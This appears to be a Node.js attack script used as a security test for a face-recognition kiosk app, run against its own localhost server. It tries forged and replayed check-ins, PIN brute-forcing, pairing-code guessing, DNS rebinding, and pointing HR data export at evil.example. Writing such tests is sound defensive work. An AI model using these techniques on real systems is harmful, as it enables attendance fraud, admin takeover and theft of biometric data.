#!/usr/bin/env node
/**
 * An attacker on the kiosk's machine (issue #14), as the outside security test was: a separate
 * process that knows nothing of Hadir's code (node built-ins only, nothing imported from the repo)
 * and has only what it can fetch from 127.0.0.1, plus what the plan hands it: an embedding computed
 * offline from another photo of an enrolled person, calls recorded from a paired script (to replay),
 * pairing codes already used, and a leaked copy of the database file.
 *
 *   node attack.mjs <plan.json>        one JSON report on stdout
 *
 * plan: { base, phase: 'fresh' | 'full', forged?, captured?, usedCodes?, files?, leakedDbCopy?, flood? }
 * Every attack records the HTTP status and the stable error code it got; the test asserts them.
 */
import { randomBytes } from 'node:crypto'
import fs from 'node:fs'
import net from 'node:net'

const plan = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'))
const base = plan.base.replace(/\/+$/, '')
const { port } = new URL(base)
const attacks = []

async function invoke(method, body, headers = {}) {
  try {
    const res = await fetch(`${base}/api/invoke/${method}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: typeof body === 'string' ? body : JSON.stringify(body) })
    const json = await res.json().catch(() => null)
    return { status: res.status, ok: json?.ok === true, code: json?.ok === false ? json.error?.code : null, data: json?.ok ? json.data : undefined }
  } catch (err) {
    return { status: 0, ok: false, code: `network:${err?.cause?.code ?? err?.message}` }
  }
}

function record(id, name, r, extra = {}) {
  attacks.push({ id, name, status: r.status, ok: r.ok, code: r.code, ...extra })
}

/** A raw GET with any Host header (fetch would not send a foreign one). */
function rawGet(path, host) {
  return new Promise((resolve) => {
    const sock = net.connect(Number(port), '127.0.0.1', () => sock.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`))
    let data = ''
    sock.on('data', (c) => (data += c.toString('latin1')))
    sock.on('end', () => {
      const [head, ...rest] = data.split('\r\n\r\n')
      const headers = Object.fromEntries(head.split('\r\n').slice(1).map((l) => [l.slice(0, l.indexOf(':')).toLowerCase(), l.slice(l.indexOf(':') + 1).trim()]))
      resolve({ status: Number(head.split(' ')[1]), headers, body: rest.join('\r\n\r\n') })
    })
    sock.on('error', () => resolve({ status: 0, headers: {}, body: '' }))
  })
}

const forgedArgs = () => ({
  modelId: plan.forged.modelId,
  modelVersion: plan.forged.modelVersion,
  embeddings: [plan.forged.embedding, plan.forged.embedding, plan.forged.embedding],
  // made-up evidence: "live", every layer high, a challenge "passed", seen three hours ago
  liveness: {
    decision: 'live',
    score: 0.97,
    layers: { frLiveness: 0.98, screen: 0.95 },
    challenge: { kind: 'turn-left', passed: true, ms: 1400 },
    temporal: { frames: 12, spanMs: 1500, motion: 0.2, nonRigidity: 0.3, rigidMotion: false, blinks: 1, still: false },
  },
  seenAt: Date.now() - 3 * 3600_000,
})

// ------------------------------------------------------------------ phase 'fresh': a new kiosk, no PIN yet

async function freshKiosk() {
  record('H2', 'set the first admin PIN without a session', await invoke('admin/set-pin', { args: { pin: '000000' } }))
  record('H2', 'set the first admin PIN with a guessed token', await invoke('admin/set-pin', { args: { pin: '000000' } }, { 'x-hadir-token': randomBytes(32).toString('base64url') }))
  record('H2', 'read admin status without a session', await invoke('admin/status', { args: {} }))
}

// ------------------------------------------------------------------ phase 'full'

async function pageAndHeaders() {
  // H1: the page any client can fetch; does anything in it open the API?
  const page = await rawGet('/', `127.0.0.1:${port}`)
  const scripts = [...page.body.matchAll(/(?:src|href)="([^"]+)"/g)].map((m) => m[1]).filter((u) => u.startsWith('/'))
  const fetched = [page.body]
  for (const u of scripts) fetched.push((await rawGet(u, `127.0.0.1:${port}`)).body)
  const metas = [...page.body.matchAll(/<meta[^>]*>/gi)].map((m) => m[0])
  attacks.push({
    id: 'H1',
    name: 'GET / and every file it links: a token or pairing code in them',
    status: page.status,
    ok: false,
    code: null,
    tokenMeta: metas.filter((m) => /token|pair|hadir/i.test(m)),
    pairCodes: fetched.flatMap((b) => [...b.matchAll(/pair=([A-Za-z0-9_-]{16,})/g)].map((m) => m[1])),
    files: scripts.length + 1,
    // long secrets-looking strings in the page itself (the test checks none is a live session's)
    candidates: [...page.body.matchAll(/[A-Za-z0-9_-]{32,}/g)].map((m) => m[0]),
  })
  const foreign = await rawGet('/', 'evil.example')
  attacks.push({ id: 'H1', name: 'GET / with a foreign Host header (DNS rebinding)', status: foreign.status, ok: false, code: null, servedPage: /<html|<!doctype/i.test(foreign.body) })
  // H5: can another page frame it?
  attacks.push({
    id: 'H5',
    name: 'framing headers on the page',
    status: page.status,
    ok: false,
    code: null,
    csp: page.headers['content-security-policy'] ?? null,
    xfo: page.headers['x-frame-options'] ?? null,
    referrer: page.headers['referrer-policy'] ?? null,
  })
}

async function forgeCheckIns() {
  const args = forgedArgs()
  record('H1', 'forged check-in without a session', await invoke('kiosk/recognize', { args }))
  record('H1', 'forged check-in with a guessed token', await invoke('kiosk/recognize', { args }, { 'x-hadir-token': randomBytes(32).toString('base64url') }))
  const cap = plan.captured
  const auth = { 'x-hadir-token': cap.token }
  record('H1', 'forged check-in with a recorded session token, no MAC', await invoke('kiosk/recognize', { args }, auth))
  record('H1', 'forged check-in with a recorded session token and a made-up MAC', await invoke('kiosk/recognize', { args, attest: { session: cap.session, counter: 100_000, mac: randomBytes(32).toString('base64url') } }, auth))
  // a recorded call, altered: the embedding swapped for the forged one, its counter and MAC kept
  const altered = JSON.parse(cap.replay)
  altered.args.embeddings = args.embeddings
  record('H1', 'a recorded check-in altered (another embedding)', await invoke('kiosk/recognize', altered, auth))
  const backdated = JSON.parse(cap.replay)
  backdated.args.seenAt = Date.now() - 3 * 3600_000
  record('H1', 'a recorded check-in backdated 3 hours', await invoke('kiosk/recognize', backdated, auth))
  record('H1', 'a recorded check-in replayed as it was', await invoke('kiosk/recognize', cap.replay, auth))
  record('H1', 'an old recorded check-in replayed', await invoke('kiosk/recognize', cap.stale, auth))
  // pairing: guessed codes, and the codes already used (the launch URL from a terminal, a CLI code)
  const guesses = []
  for (let i = 0; i < 20; i++) guesses.push((await invoke('kiosk/pair', { args: { code: randomBytes(24).toString('base64url') } })).code)
  attacks.push({ id: 'H1', name: 'pairing with 20 guessed codes', status: 200, ok: false, code: [...new Set(guesses)].join(','), paired: guesses.filter((c) => c === null).length })
  for (const code of plan.usedCodes) record('H1', 'pairing with a code already used', await invoke('kiosk/pair', { args: { code } }))
}

async function takeOver() {
  record('H2', 'set the admin PIN without a session', await invoke('admin/set-pin', { args: { pin: '000000' } }))
  record('H4', 'point HR elsewhere and share templates, without a session', await invoke('settings/update', { args: { hrUrl: 'http://127.0.0.1:9/', hrShareTemplates: true } }))
  record('H4', 'point HR elsewhere with a recorded session token, without admin', await invoke('settings/update', { args: { hrUrl: 'https://evil.example/', hrShareTemplates: true } }, { 'x-hadir-token': plan.captured.token }))
  record('H4', 'run a sync (send templates) without a session', await invoke('sync/now', { args: {} }))
}

/** H3: a flood of PIN attempts and forged calls from many connections at once, for floodMs. */
async function flood() {
  const { workers, ms } = plan.flood
  const until = Date.now() + ms
  const byCode = {}
  let requests = 0
  const moves = [
    () => invoke('admin/login', { args: { pin: String(100000 + Math.floor(Math.random() * 900000)) } }),
    () => invoke('admin/login', { args: { pin: String(100000 + Math.floor(Math.random() * 900000)) } }, { 'x-hadir-token': plan.captured.token }),
    () => invoke('kiosk/pair', { args: { code: randomBytes(24).toString('base64url') } }),
    () => invoke('kiosk/recognize', { args: forgedArgs() }),
    () => invoke('kiosk/recognize', { args: forgedArgs() }, { 'x-hadir-token': plan.captured.token }),
  ]
  await Promise.all(
    Array.from({ length: workers }, async (_, w) => {
      for (let i = w; Date.now() < until; i++) {
        const r = await moves[i % moves.length]()
        requests++
        const key = `${r.status}:${r.code}`
        byCode[key] = (byCode[key] ?? 0) + 1
      }
    }),
  )
  return { requests, byCode }
}

/** Files: can another local user read them? (this process runs as one where the test can arrange it) */
function files() {
  const out = []
  for (const p of plan.files ?? []) {
    let error = null
    try {
      if (p.endsWith('/')) fs.readdirSync(p)
      else fs.readFileSync(p)
    } catch (err) {
      error = err.code
    }
    out.push({ path: p, error })
  }
  return out
}

/** A leaked copy of hadir.db: is there anything to crack offline? */
function leakedCopy() {
  if (!plan.leakedDbCopy) return null
  const bytes = fs.readFileSync(plan.leakedDbCopy)
  const text = bytes.toString('latin1')
  return { bytes: bytes.length, scryptHash: /"algo":"scrypt"/.test(text) || /"salt":"/.test(text), sealedPin: /"admin\.pin"/.test(text) || text.includes('admin.pin') }
}

const report = { uid: process.getuid?.() ?? null, attacks }
if (plan.phase === 'fresh') await freshKiosk()
else {
  await pageAndHeaders()
  await forgeCheckIns()
  await takeOver()
  report.flood = plan.flood ? await flood() : null
  report.files = files()
  report.leak = leakedCopy()
}
process.stdout.write(`${JSON.stringify(report)}\n`)
